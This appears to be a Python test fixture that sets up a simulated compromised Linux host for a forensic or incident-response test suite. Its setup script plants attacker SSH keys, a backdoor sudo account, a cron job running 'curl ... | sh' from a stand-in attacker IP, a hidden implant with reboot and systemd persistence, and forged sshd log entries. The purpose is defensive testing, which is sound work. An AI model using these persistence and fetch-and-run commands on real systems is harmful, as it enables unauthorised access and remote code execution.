"""The lab's story of a compromised host, on real hosts: the same names, so that one conformance suite fits both."""

from __future__ import annotations

import time
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta

from tests.support.hosts import SMALL, HostNet, Key, TestHost

ATTACKER_IP = "203.0.113.66"
OFFICE_IP = "198.51.100.10"
DEPLOY_IP = "198.51.100.20"
IMPLANT = "/dev/shm/.x/kworkerd"

_SETUP = """
chroot . useradd -m -s /bin/bash -u 1201 deploy
chroot . useradd -m -s /bin/bash -u 1202 -G sudo -p '$6$x$setbytest' alice
chroot . useradd -m -s /bin/bash -u 1203 -G sudo -p '$6$x$setbytest' sysupd
for who in deploy alice sysupd; do mkdir -p home/$who/.ssh; done
echo '{ci} ci@build' > home/deploy/.ssh/authorized_keys
echo '{alice} alice@laptop-new' > home/alice/.ssh/authorized_keys
echo '{attacker} root@attacker' > home/sysupd/.ssh/authorized_keys
echo '{attacker} root@attacker' >> root/.ssh/authorized_keys
for who in deploy alice sysupd; do chroot . chown -R $who: /home/$who/.ssh; chmod 700 home/$who/.ssh; done
echo '*/5 * * * * root curl -s http://203.0.113.66/u | sh' > etc/cron.d/0sync
echo '30 2 * * * root /usr/local/bin/backup.sh' > etc/cron.d/backup
printf '# m h dom mon dow\\n@reboot {implant}\\n' > var/spool/cron/crontabs/deploy
printf '[Service]\\nExecStart={implant}\\n[Install]\\nWantedBy=multi-user.target\\n' > etc/systemd/system/sys-healthd.service
printf '[Service]\\nExecStart=/opt/node_exporter/node_exporter\\n[Install]\\nWantedBy=multi-user.target\\n' \\
  > etc/systemd/system/node-exporter.service
SYSTEMD_OFFLINE=1 chroot . systemctl enable -q sys-healthd.service node-exporter.service
mkdir -p var/www/html
echo '<h1>owned</h1>' > var/www/html/index.html
cat > var/log/auth.log <<'END'
{logins}
END
"""


_SECOND = """
echo '{attacker} root@attacker' >> root/.ssh/authorized_keys
echo '*/5 * * * * root curl -s http://203.0.113.66/u | sh' > etc/cron.d/0sync
cat > var/log/auth.log <<'END'
{logins}
END
"""


def plant(net: HostNet, name: str = "web1", *, setup: str = "", second: str = "") -> TestHost:
    """Add the compromised host; ``db1``, ``mon1`` and ``bastion`` beside it, and the attacker's machine.

    Args:
        setup: more shell commands for the compromised host.
        second: another host on which the attacker left a key and a cron entry.
    """
    attacker, ci, alice = Key(), Key(), Key()
    more = setup
    setup = _SETUP.format(
        attacker=attacker.public,
        ci=ci.public,
        alice=alice.public,
        implant=IMPLANT,
        logins=_logins(name, attacker.fingerprint, ci.fingerprint, alice.fingerprint),
    )
    (web,) = net.add(name, setup=SMALL + setup + more, wait=False)
    if second:
        logins = _rows(second, [(_began() + timedelta(hours=3), "root", ATTACKER_IP, attacker.fingerprint, True)])
        net.add(second, setup=SMALL + _SECOND.format(attacker=attacker.public, logins=logins), wait=False)
    net.add(*(other for other in ("db1", "mon1", "bastion", "evil") if other != second))
    evil = net.hosts["evil"]
    evil.run(f"ip address add {ATTACKER_IP}/32 dev eth0")
    web.run(f"ip route add {ATTACKER_IP}/32 dev eth0")
    dial = f"import socket,time; s=socket.create_connection(('{ATTACKER_IP}', 22)); time.sleep(9999)"
    web.run(
        f"mkdir -p /dev/shm/.x && cp /usr/bin/python3 {IMPLANT} && cp /bin/sleep /usr/local/bin/report && "
        f'(setpriv --reuid=1203 --regid=1203 --clear-groups {IMPLANT} -c "{dial}" >/dev/null 2>&1 & '
        "setpriv --reuid=1202 --regid=1202 --clear-groups /usr/local/bin/report 9999 >/dev/null 2>&1 &)"
    )
    for _ in range(200):
        if ATTACKER_IP in web.run("ss -Htn") and "report" in web.run("ps -eo args"):
            break
        time.sleep(0.02)
    web.run(f"rm -f {IMPLANT} /usr/local/bin/report")
    return web


def _began() -> datetime:
    return datetime.now(UTC) - timedelta(hours=20)


def _logins(name: str, attacker: str, ci: str, alice: str) -> str:
    began = _began()
    rows = [
        *((began - timedelta(days=day), "deploy", DEPLOY_IP, ci, True) for day in (9, 6, 3)),
        (began - timedelta(days=5), "alice", OFFICE_IP, None, True),
        *((began - timedelta(minutes=9 - n), "root", ATTACKER_IP, None, False) for n in range(3)),
        (began, "deploy", ATTACKER_IP, ci, True),
        (began + timedelta(minutes=14), "root", ATTACKER_IP, attacker, True),
        (began + timedelta(hours=5), "alice", OFFICE_IP, alice, True),
        (began + timedelta(hours=19), "sysupd", ATTACKER_IP, attacker, True),
    ]
    return _rows(name, rows)


def _rows(name: str, rows: Iterable[tuple[datetime, str, str, str | None, bool]]) -> str:
    """As sshd writes them: when, who, where from, with which key, whether it was let in."""
    return "\n".join(
        f"{at.isoformat()} {name} sshd[{900 + n}]: {'Accepted' if ok else 'Failed'} "
        f"{'publickey' if key else 'password'} for {account} from {origin} port {40000 + n} ssh2"
        + (f": ED25519 {key}" if key else "")
        for n, (at, account, origin, key, ok) in enumerate(sorted(rows, key=lambda row: row[0]))
    )
